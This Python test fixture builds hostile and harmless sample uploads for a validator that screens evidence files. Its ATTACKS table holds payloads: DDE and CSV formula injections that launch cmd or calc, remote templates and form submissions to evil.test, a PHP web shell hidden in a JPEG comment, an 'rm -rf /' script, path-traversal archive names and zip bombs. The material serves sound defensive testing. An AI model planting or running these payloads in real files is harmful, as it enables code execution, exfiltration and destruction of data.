"""Files that somebody uploads as evidence: hostile ones, each by another trick, and harmless ones that look unusual. All are made here."""

from io import BytesIO
from struct import pack
from zipfile import ZIP_BZIP2, ZIP_STORED, ZipFile, ZipInfo

import docx as python_docx
import openpyxl
import pikepdf
import xlsxwriter
from pikepdf import Array, Dictionary, Name, String

from tests.web.supervision.uploads import (
    JPEG,
    PDF,
    bof,
    compound,
    docx,
    fib,
    jpeg,
    ofd,
    pdf,
    png,
    relations,
    types,
    xlsx,
    zipped,
)  # fmt: skip

_OPEN = "application/vnd.openxmlformats-officedocument."
_WORD_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
_EXCEL_MACROS = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_BY_ENTITIES = "".join(f"&#{ord(sign)};" for sign in _EXCEL_MACROS)


def override(part, kind):
    return f'<Override PartName="/{part}" ContentType="{kind}"/>'


def field(*words):
    """A field of Word whose instruction is spread over runs."""
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in words)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def cell(formula):
    return f'<c r="A1"><v>1</v></c><c r="B1"><f>{formula}</f><v>1</v></c>'


def word(*outer, part="word/_rels/document.xml.rels", **more):
    return docx(members={part: relations(*outer)}, **more)


def external(number):
    """A stray first member that the directory does not name."""
    hidden = zipped({"evil.txt": b"x" * number})
    return hidden[: hidden.rindex(b"PK\x01\x02")] + docx()


def twice():
    out = BytesIO()
    with ZipFile(BytesIO(docx())) as given, ZipFile(out, "w") as archive:
        for name in given.namelist():
            archive.writestr(name, given.read(name))
        archive.writestr("WORD/document.xml", b"<evil/>")
    return out.getvalue()


def packed(way):
    out = BytesIO()
    with ZipFile(BytesIO(docx())) as given, ZipFile(out, "w", way) as archive:
        for name in given.namelist():
            archive.writestr(name, given.read(name))
    return out.getvalue()


def locked():
    data = bytearray(docx())
    for at in range(len(data) - 4):  # the flag of every header: local at 6, central at 8
        if data[at : at + 4] == b"PK\x03\x04":
            data[at + 6] |= 1
        if data[at : at + 4] == b"PK\x01\x02":
            data[at + 8] |= 1
    return bytes(data)


def named(name):
    out = BytesIO()
    with ZipFile(out, "w") as archive:
        info = ZipInfo("placeholder")
        info.filename = name
        archive.writestr(info, b"x")
    return out.getvalue()


def script(made):
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def loose(kind, **more):
    """An action in an object that nothing points to, in a compressed stream."""

    def change(made):
        made.Root.Extra = made.make_indirect(Dictionary(Inner=Array([Dictionary(S=Name(kind), **more)])))

    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)


def annotation(**more):
    def change(made):
        made.pages[0].Annots = Array(
            [made.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **more))]
        )

    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def embedding(made):
    made.attachments["a.exe"] = b"MZ"


def sheet(kind):
    """BOUNDSHEET of a workbook of Excel 97."""
    return pack("<HH", 0x85, 12) + pack("<IBB", 0, 0, kind) + b"\x04\x00Mac1"


def book(*records):
    return compound({"Workbook": bof() + b"".join(records) + pack("<HH", 10, 0)})


ATTACKS = {
    # Word and Excel: macros
    "macros in a part of their own": ("报告.docx", docx(members={"word/vbaProject.bin": b"x"}, more=override("word/vbaProject.bin", "application/vnd.ms-office.vbaProject")), "macros"),
    "macros of a type nobody named": ("报告.docx", docx(members={"word/a.dat": b"x"}, more=override("word/a.dat", "application/vnd.ms-office.vbaProject")), "macros"),
    "macro main part": ("报告.docx", docx(kind=_WORD_MACROS), "macros"),
    "macro type in UTF-16": ("报告.docx", docx(kind=_WORD_MACROS, encoding="UTF-16"), "macros"),
    "macro type as entities": ("表.xlsx", xlsx(kind=_BY_ENTITIES), "macros"),
    "macro type by default of an ending": ("表.xlsx", xlsx({"xl/a.bin": b"x"}, more='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'), "macros"),
    "macro sheet": ("表.xlsx", xlsx({"xl/macrosheets/sheet1.xml": b"<a/>"}, more=override("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")), "macros"),
    "dialog sheet": ("表.xlsx", xlsx({"xl/d.xml": b"<a/>"}, more=override("xl/d.xml", _OPEN + "spreadsheetml.dialogsheet+xml")), "macros"),
    "relation to macros": ("报告.docx", word(("vbaProject", "a.png", "")), "macros"),
    "name that runs at opening": ("表.xlsx", xlsx(book='<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">a!$A$1</definedName></definedNames>'), "macros"),
    "name that is a macro's": ("表.xlsx", xlsx(book='<definedNames><definedName name="x" xlm="1" function="1">a!$A$1</definedName></definedNames>'), "macros"),
    "macro of a shape": ("表.xlsx", xlsx({"xl/drawings/d.xml": b'<wsDr><sp macro="[0]!run"/></wsDr>'}, more=override("xl/drawings/d.xml", _OPEN + "drawing+xml")), "macros"),
    "macro of a button in VML": ("表.xlsx", xlsx({"xl/drawings/v.vml": b'<xml xmlns:x="urn:x"><x:FmlaMacro>[0]!run</x:FmlaMacro></xml>'}, more=override("xl/drawings/v.vml", _OPEN + "vmlDrawing")), "macros"),
    "macros in a table inside": ("报告.docx", docx(members={"word/embeddings/t.xlsx": xlsx(kind=_EXCEL_MACROS)}), "macros"),
    "keyboard that runs macros": ("报告.docx", docx(members={"word/c.xml": b"<a/>"}, more=override("word/c.xml", "application/vnd.ms-word.keyMapCustomizations+xml")), "macros"),
    # Word and Excel: fetched or run at opening
    "external template": ("报告.docx", word(("attachedTemplate", "http://evil.test/a.dotm", "External"), part="word/_rels/settings.xml.rels"), "active"),
    "external template, other order": ("报告.docx", docx(members={"word/_rels/settings.xml.rels": b'<Relationships><Relationship TargetMode="External" Target="\\\\evil\\a.dotm" Id="r" Type="http://x/attachedTemplate"></Relationship></Relationships>'}), "active"),
    "external template in UTF-16": ("报告.docx", docx(members={"word/_rels/settings.xml.rels": relations(("attachedTemplate", "http://evil.test/a.dotm", "External")).decode().encode("utf-16")}), "active"),
    "mode in small letters": ("报告.docx", word(("attachedTemplate", "http://evil.test/a", "external")), "active"),
    "external picture": ("报告.docx", word(("image", "http://evil.test/a.png", "External")), "active"),
    "external object": ("报告.docx", word(("oleObject", "http://evil.test/a.rtf", "External")), "active"),
    "external frame": ("报告.docx", word(("frame", "http://evil.test/a.html", "External")), "active"),
    "sub-document": ("报告.docx", word(("subDocument", "file:///c:/a.docx", "External")), "active"),
    "page inserted whole": ("报告.docx", docx(body='<w:altChunk r:id="r0"/>'), "active"),
    "link to a program": ("报告.docx", word(("hyperlink", "file://evil/a.exe", "External")), "active"),
    "link to a handler": ("报告.docx", word(("hyperlink", "ms-msdt:/id PCWDiagnostic", "External")), "active"),
    "OLE object": ("报告.docx", docx(members={"word/embeddings/o.bin": b"\xd0\xcf\x11\xe0" + b"x" * 600}, more=override("word/embeddings/o.bin", _OPEN + "oleObject")), "active"),
    "OLE object called a picture": ("报告.docx", docx(members={"word/media/a.png": b"\xd0\xcf\x11\xe0" + b"x" * 600}), "active"),
    "OLE package drawn in the text": ("报告.docx", docx(body='<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Package"/></w:object></w:r></w:p>'), "active"),
    "ActiveX": ("报告.docx", docx(members={"word/activeX/a.xml": b"<a/>"}), "active"),
    "ribbon of its own": ("报告.docx", word(("ui/extensibility", "customUI.xml", ""), part="_rels/more.rels"), "active"),
    "add-in from the web": ("表.xlsx", xlsx({"xl/w.xml": b'<w:webextension xmlns:w="urn:w"/>'}), "active"),
    "DDE in a field": ("报告.docx", docx(body=field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ")), "active"),
    "DDE spread over runs": ("报告.docx", docx(body=field(" D", "DEA", "UTO c:\\\\a.exe ")), "active"),
    "DDE in a simple field": ("报告.docx", docx(body='<w:p><w:fldSimple w:instr="DDE cmd a"/></w:p>'), "active"),
    "picture fetched by a field": ("报告.docx", docx(body=field(' INCLUDEPICTURE "http://evil.test/a" ')), "active"),
    "DDE in a formula": ("表.xlsx", xlsx(cells=cell("cmd|' /C calc'!A0")), "active"),
    "formula that fetches": ("表.xlsx", xlsx(cells=cell("_xlfn.WEBSERVICE(&quot;http://evil.test/&quot;&amp;A1)")), "active"),
    "formula that calls": ("表.xlsx", xlsx(cells=cell("IF(1,CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JFJ&quot;,&quot;calc&quot;,0))")), "active"),
    "formula that leads away": ("表.xlsx", xlsx(cells=cell("HYPERLINK(&quot;\\\\evil\\a&quot;&amp;A1,&quot;看&quot;)")), "active"),
    "link to another book": ("表.xlsx", xlsx({"xl/externalLinks/e.xml": b"<externalLink><externalBook/></externalLink>"}), "active"),
    "link to a program (ddeLink)": ("表.xlsx", xlsx({"xl/externalLinks/e.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}), "active"),
    "query of a database": ("表.xlsx", xlsx({"xl/connections.xml": b'<connections><connection><dbPr command="x"/></connection></connections>'}), "active"),
    "scripted picture": ("报告.docx", docx(members={"word/media/a.svg": b'<svg onload="alert(1)"/>'}, more='<Default Extension="svg" ContentType="image/svg+xml"/>'), "active"),
    "picture that starts a program": ("报告.docx", docx(body='<w:p><a:hlinkClick xmlns:a="urn:a" action="ppaction://program" /></w:p>'), "active"),
    "document type with entities": ("报告.docx", docx(members={"word/a.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "active"),
    "slides with a program": ("汇报.docx", zipped({"[Content_Types].xml": types("ppt/presentation.xml", _OPEN + "presentationml.presentation.main+xml"), "_rels/.rels": relations(("officeDocument", "ppt/presentation.xml", "")), "ppt/presentation.xml": b"<p/>"}), "unknown_part"),
    # Word and Excel: what is not known
    "part of no type": ("报告.docx", docx(members={"word/a.weird": b"x"}), "unknown_part"),
    "part of an unknown type": ("报告.docx", docx(members={"word/a.xml": b"<a/>"}, more=override("word/a.xml", "application/x-msdownload")), "unknown_part"),
    "table inside that is none": ("报告.docx", docx(members={"word/embeddings/t.xlsx": b"MZ\x90\x00"}), "executable"),
    # ZIP
    "program in a paper": ("报告.docx", docx(members={"word/media/a.exe": b"x"}), "executable"),
    "program called a picture": ("报告.docx", docx(members={"word/media/a.png": b"MZ\x90\x00\x03"}), "executable"),
    "name that leads out": ("报告.docx", named("../../etc/cron.d/x"), "archive"),
    "name from the root": ("报告.docx", named("/etc/x"), "archive"),
    "name twice": ("报告.docx", twice(), "archive"),
    "file that the directory does not name": ("报告.docx", external(40), "two_in_one"),
    "archive with a tail": ("报告.docx", docx() + b"<script>alert(1)</script>", "two_in_one"),
    "archive packed in another way": ("报告.docx", packed(ZIP_BZIP2), "archive"),
    "locked archive": ("报告.docx", locked(), "encrypted"),
    "archive of archives": ("报告.docx", docx(members={"word/media/a.zip": zipped({"a": b"x"})}), "executable"),
    "bomb": ("报告.docx", docx(members={"word/media/a.xml": b"\0" * (8 << 20)}), "bomb"),
    "thousands of members": ("报告.docx", zipped({f"a{n}": b"" for n in range(3001)}), "bomb"),
    "bomb of papers in papers": ("报告.docx", docx(members={"a.xlsx": xlsx({"b.xlsx": xlsx({"c.xlsx": xlsx({"d.xlsx": xlsx()})})})}), "bomb"),
    # OLE
    "macros of Word 97": ("旧.doc", compound({"WordDocument": fib(), "1Table": b"x", "Macros/VBA/dir": b"x"}), "macros"),
    "macros of Excel 97": ("旧.xls", compound({"Workbook": bof(), "_VBA_PROJECT_CUR/VBA/dir": b"x"}), "macros"),
    "sheet of macros of Excel 4": ("旧.xls", book(sheet(1)), "macros"),
    "name of Excel 97 that is a macro's": ("旧.xls", book(pack("<HH", 0x18, 20) + pack("<H", 0x0E) + b"\0" * 18), "macros"),
    "package in Word 97": ("旧.doc", compound({"WordDocument": fib(), "ObjectPool/_1/\x01Ole10Native": b"x"}), "active"),
    "object in Excel 97": ("旧.xls", compound({"Workbook": bof(), "MBD0018D4CE/\x01Ole": b"x"}), "active"),
    "DDE in Word 97": ("旧.doc", compound({"WordDocument": fib(text=b"\x13 DDEAUTO c:\\cmd.exe \x14\x15")}), "active"),
    "DDE in Word 97, wide": ("旧.doc", compound({"WordDocument": fib(text="\x13DDEAUTO c:\\cmd.exe\x14\x15".encode("utf-16-le"))}), "active"),
    "DDE in Excel 97": ("旧.xls", book(pack("<HH", 0x1AE, 9) + b"\0\0\x03\0\0c\x03md"), "active"),
    "locked Word 97": ("旧.doc", compound({"WordDocument": fib(0x100)}), "encrypted"),
    "locked Excel 97": ("旧.xls", book(pack("<HH", 0x2F, 4) + b"\0" * 4), "encrypted"),
    "locked package": ("报告.docx", compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "encrypted"),
    "mail with attachments": ("信.doc", compound({"__substg1.0_1000001F": b"x"}), "unknown_type"),
    "stream that no paper has": ("旧.doc", compound({"WordDocument": fib(), "Payload": b"x"}), "unknown_part"),
    "compound file cut short": ("旧.doc", compound({"WordDocument": fib()})[:2000], "damaged"),
    # PDF
    "script at opening": ("通报.pdf", pdf(script), "active"),
    "script in a compressed stream": ("通报.pdf", pdf(script, object_stream_mode=pikepdf.ObjectStreamMode.generate), "active"),
    "script that nothing points to": ("通报.pdf", loose("/JavaScript", JS=String("app.alert(1)")), "active"),
    "script of a name with escapes": ("通报.pdf", pdf(script).replace(b"/JavaScript", b"/J#61vaScript"), "active"),
    "program to start": ("通报.pdf", loose("/Launch", F=String("cmd.exe")), "active"),
    "form sent away": ("通报.pdf", annotation(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("http://evil.test"))), "active"),
    "other file opened": ("通报.pdf", annotation(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("\\\\evil\\a.pdf"))), "active"),
    "address of a handler": ("通报.pdf", annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///c:/a.exe"))), "active"),
    "file inside": ("通报.pdf", pdf(embedding), "active"),
    "file pinned to a page": ("通报.pdf", annotation(Subtype=Name.FileAttachment), "active"),
    "film": ("通报.pdf", annotation(Subtype=Name.RichMedia), "active"),
    "form of XML": ("通报.pdf", pdf(lambda made: setattr(made.Root, "AcroForm", Dictionary(XFA=String("x")))), "active"),
    "script at closing": ("通报.pdf", pdf(lambda made: setattr(made.Root, "AA", Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String("x"))))), "active"),
    "menu that runs": ("通报.pdf", pdf(lambda made: setattr(made.Root, "OpenAction", Dictionary(S=Name.Named, N=Name("/Print")))), "active"),
    "directory that does not fit": ("通报.pdf", PDF.replace(b"startxref", b"startxxxx"), "damaged"),
    "locked PDF": ("通报.pdf", pdf(encryption=pikepdf.Encryption(user="u", owner="o")), "encrypted"),
    "PDF with a tail": ("通报.pdf", PDF + b"\nMZ\x90\0 and more", "two_in_one"),
    "PDF and archive": ("通报.pdf", PDF + zipped({"a": b"x"}), "two_in_one"),
    "PDF behind other words": ("说明.txt", b"hello\n" + PDF, "two_in_one"),
    # pictures
    "picture of a head alone": ("图.png", png()[:33] + b"IEND", "damaged"),
    "picture of too many points": ("图.png", png(60_000, 60_000), "bomb"),
    "page in a remark": ("图.png", png(more=b"<script>alert(1)</script>"), "active"),
    "program in a remark": ("图.jpg", jpeg(comment=b"<?php system($_GET[0]); ?>"), "active"),
    "archive behind a picture": ("图.png", png() + zipped({"a.class": b"x"}), "two_in_one"),
    "program behind a picture": ("图.jpg", JPEG + b"MZ" + b"\0" * 58 + b"PE\0\0", "two_in_one"),
    "words behind a picture": ("图.jpg", JPEG + b"anything at all", "two_in_one"),
    "picture with script (SVG)": ("图.txt", b"<svg onload=alert(1)>", "active"),
    # tables of text
    "formula in the first cell": ("数据.csv", b"=cmd|' /C calc'!A0,1\n", "active"),
    "formula in a second cell": ("数据.csv", "月份,数值\n1,=HYPERLINK(\"http://evil.test/\"&A1)\n".encode(), "active"),
    "formula behind a tab": ("数据.csv", b"a\t=SUM(A1:A2)\n", "active"),
    "formula behind a semicolon": ("数据.csv", b"sep=;\n1;@SUM(A1)\n", "active"),
    "formula in quotes": ("数据.csv", b'1,"=1+cmd|\' /C calc\'!A0"\n', "active"),
    "formula behind what is not seen": ("数据.csv", "1,\u200b\ufeff =WEBSERVICE(A1)\n".encode(), "active"),
    "formula with a full-width sign": ("数据.csv", "1,＝SUM(A1)\n".encode(), "active"),
    "formula after a plus": ("数据.csv", b"1,+SUM(A1)*2\n", "active"),
    "formula after a minus": ("数据.csv", b"1,-2+3+cmd|' /C calc'!A0\n", "active"),
    "formula in GB 18030": ("数据.csv", "数值,=调用(1)\n".encode("gb18030"), "active"),
    # not what they say
    "web page as text": ("说明.txt", b"\xef\xbb\xbf <!DOCTYPE html><p>", "active"),
    "saved page as text": ("说明.txt", b"MIME-Version: 1.0\nContent-Type: multipart/related\n", "active"),
    "RTF": ("旧.doc", b"{\\rtf1\\object\\objupdate}", "active"),
    "script of a shell": ("说明.txt", b"#!/bin/sh\nrm -rf /\n", "executable"),
    "shortcut": ("说明.txt", b"\x4c\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 60, "executable"),
    "OFD with a film": ("公文.ofd", ofd({"Doc_0/a.xml": b"<ofd:Movie xmlns:ofd='urn:o'/>"}), "active"),
    "OFD with a program": ("公文.ofd", ofd({"Doc_0/Attachs/a.pdf": pdf(script)}), "active"),
    "OFD with something else": ("公文.ofd", ofd({"Doc_0/a.html": b"<p>"}), "unknown_part"),
}  # fmt: skip
"""What it is → name, bytes, the fault that it is refused for."""


def written(maker):
    out = BytesIO()
    maker(out)
    return out.getvalue()


def report(out):
    """As python-docx writes it: headings, a table, a picture, a footer."""
    paper = python_docx.Document()
    paper.add_heading("落实情况", 1)
    paper.add_paragraph("截至三月底，已建成 3 处，完成率 60%。")
    paper.add_table(3, 4).cell(0, 0).text = "序号"
    paper.add_picture(BytesIO(png()))
    paper.sections[0].footer.paragraphs[0].text = "第 1 页"
    paper.save(out)


def ledger(out):
    """As openpyxl writes it: formulas that count, a comment, a chart, a link to a page."""
    made = openpyxl.Workbook()
    page = made.active
    for row in (
        ["序号", "数值"],
        [1, 12.5],
        [2, "=SUM(B2:B2)*2"],
        [3, '=IF(B2>1,"达到","未达到")'],
        [4, "=VLOOKUP(A2,A1:B3,2,0)"],
    ):
        page.append(row)
    page["C1"].hyperlink = "https://www.gov.cn/"
    page["A1"].comment = openpyxl.comments.Comment("按统计局口径", "科员")
    chart = openpyxl.chart.BarChart()
    chart.add_data(openpyxl.chart.Reference(page, min_col=2, min_row=1, max_row=3))
    page.add_chart(chart, "E2")
    page.auto_filter.ref = "A1:B3"
    page.conditional_formatting.add(
        "B2:B3", openpyxl.formatting.rule.CellIsRule(operator="lessThan", formula=["1"])
    )
    made.defined_names["全部"] = openpyxl.workbook.defined_name.DefinedName(
        "全部", attr_text="Sheet!$A$1:$B$3"
    )
    made.save(out)


def table(out):
    """As xlsxwriter writes it, with strings in the cells, a picture and a validation."""
    with xlsxwriter.Workbook(out, {"in_memory": True}) as made:
        page = made.add_worksheet("台账")
        page.write_row(0, 0, ["牵头单位", "时限"])
        page.data_validation("A2:A9", {"validate": "list", "source": ["发改局", "住建局"]})
        page.insert_image("C2", "a.png", {"image_data": BytesIO(png())})
        page.write_url("D1", "https://www.gov.cn/", string="链接")
        page.write_url("D2", "internal:'台账'!A1", string="回到开头")


def outlined(made):
    with made.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("一、总体情况", 0))
    made.Root.OpenAction = Array([made.pages[0].obj, Name.Fit])
    made.docinfo["/Title"] = "落实情况"


def filled(made):
    """A form to be filled in by hand."""
    made.Root.AcroForm = Dictionary(
        Fields=Array([made.make_indirect(Dictionary(FT=Name.Tx, T=String("name"), V=String("发改局")))])
    )


HARMLESS = {
    "PDF": ("通报.pdf", PDF),
    "PDF in capitals": ("通报.PDF", PDF),
    "PDF with compressed objects": ("通报.pdf", pdf(outlined, object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    "PDF with an outline that opens on a page": ("通报.pdf", pdf(outlined)),
    "PDF with a link to a page": ("通报.pdf", annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://www.gov.cn/")))),
    "PDF with a link inside": ("通报.pdf", annotation(Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=String("一")))),
    "PDF with a form": ("申请表.pdf", pdf(filled)),
    "PDF that speaks of /JavaScript": ("说明.pdf", pdf(lambda made: setattr(made.docinfo, "Title", String("/JavaScript /Launch")))),
    "PDF that may not be printed": ("通报.pdf", pdf(encryption=pikepdf.Encryption(owner="o"))),
    "PDF for the web": ("通报.pdf", pdf(linearize=True)),
    "PDF with blank lines behind": ("通报.pdf", PDF + b"\r\n\r\n"),
    "document": ("报告.docx", docx()),
    "document of python-docx": ("报告.docx", written(report)),
    "document with a table inside": ("报告.docx", docx(members={"word/embeddings/t.xlsx": xlsx()})),
    "document with a link": ("报告.docx", word(("hyperlink", "https://www.gov.cn/", "External"))),
    "document with a link to an annex": ("报告.docx", word(("hyperlink", "附件1.docx", "External"))),
    "document with numbers of pages": ("报告.docx", docx(body=field(" PAGE ") + field(" TOC \\o &quot;1-3&quot; ") + field(" HYPERLINK \\l &quot;a&quot; "))),
    "document in UTF-16": ("报告.docx", docx(encoding="UTF-16")),
    "document stored, not packed": ("报告.docx", packed(ZIP_STORED)),
    "document of WPS": ("报告.docx", docx(members={"docProps/w.xml": b"<a/>"}, more=override("docProps/w.xml", "application/vnd.wps-officedocument.woinfo+xml"))),
    "workbook": ("台账.xlsx", xlsx()),
    "workbook of openpyxl": ("台账.xlsx", written(ledger)),
    "workbook of xlsxwriter": ("台账.xlsx", written(table)),
    "workbook with a link by formula": ("台账.xlsx", xlsx(cells=cell("HYPERLINK(&quot;https://www.gov.cn/&quot;,&quot;看&quot;)"))),
    "workbook with words of formulas": ("台账.xlsx", xlsx(cells=cell("IF(A1=&quot;CALL(1)|x!&quot;,1,0)"))),
    "workbook with an empty macro of a shape": ("台账.xlsx", xlsx({"xl/drawings/d.xml": b'<wsDr><sp macro=""/></wsDr>'}, more=override("xl/drawings/d.xml", _OPEN + "drawing+xml"))),
    "Word 97": ("旧报告.doc", compound({"WordDocument": fib(text="已完成三处".encode("utf-16-le")), "1Table": b"x", "\x05SummaryInformation": b"x"})),
    "Excel 97": ("旧表.xls", book(sheet(0), pack("<HH", 0x1AE, 4) + b"\1\0\1\4")),
    "OFD": ("公文.ofd", ofd()),
    "OFD with a paper inside": ("公文.ofd", ofd({"Doc_0/Attachs/附件.pdf": PDF, "Doc_0/Res/i.png": png()})),
    "photograph": ("现场.jpeg", jpeg((640, 480), comment=b"2026-03-10 10:00")),
    "photograph with a second one behind (MPF)": ("现场.jpg", JPEG + JPEG),
    "photograph of a telephone with its notes": ("现场.jpg", JPEG + b"\0\0\x01\x0aImage_UTC_Data1772000000000SEFH" + b"\0" * 12 + b"SEFT"),
    "photograph, progressive": ("现场.jpg", jpeg((64, 64), progressive=True)),
    "picture": ("现场.png", png()),
    "picture with a remark": ("现场.png", png(more="拍摄于三月".encode())),
    "text in GB 18030": ("说明.txt", "已完成三处。\r\n".encode("gb18030")),
    "text in UTF-8 with a mark": ("说明.txt", b"\xef\xbb\xbf" + "已完成三处。".encode()),
    "text with a list of dashes": ("说明.txt", "- 一是建成(一期)\n- 二是开工\n+86 0411 8888\n".encode()),
    "table of numbers": ("数据.csv", "月份,数值\n1,-5\n2,+3.2%\n3,-12.5万元\n4,—\n".encode()),
    "table of texts of digits": ("数据.csv", '编号,名称\n="0012",第一处\n"=""0013""",第二处\n'.encode()),
    "table with dashes and mails": ("数据.csv", "说明,联系人\n- 已完成(一期),a@b.example\n-,@张三\n".encode()),
    "table in GB 18030": ("数据.csv", "单位,数值\n发改局,3\n".encode("gb18030")),
}  # fmt: skip
"""What it is → name and bytes of a file that must be taken."""
